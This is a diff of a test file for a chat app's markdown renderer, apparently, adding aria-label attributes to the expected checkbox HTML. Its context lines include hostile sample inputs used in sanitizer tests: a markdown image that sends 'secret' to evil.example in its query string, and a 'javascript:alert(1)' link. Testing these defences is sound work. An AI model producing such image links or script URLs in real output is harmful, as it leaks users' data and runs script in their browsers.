@@ -70,8 +70,8 @@ def test_blocks(chat: Chat) -> None:
         "### Three": "<h4>Three</h4>",
         "###### Six": "<h6>Six</h6>",
         "a\nb": "<p>a<br>b</p>",
-        "- [x] done\n- [ ] open": '<ul>\n<li><input checked="" disabled="" type="checkbox"> done</li>\n'
-        '<li><input disabled="" type="checkbox"> open</li>\n</ul>',
+        "- [x] done\n- [ ] open": '<ul>\n<li><input checked="" disabled="" type="checkbox" aria-label="done"> done'
+        '</li>\n<li><input disabled="" type="checkbox" aria-label="open"> open</li>\n</ul>',
         "|a|b|\n|-|-:|\n|x<br>y|2|": "x<br>y",
         "![cat](https://evil.example/?q=secret)": ">cat</a>",
         "[x](javascript:alert(1))": "<p><a>x</a></p>",
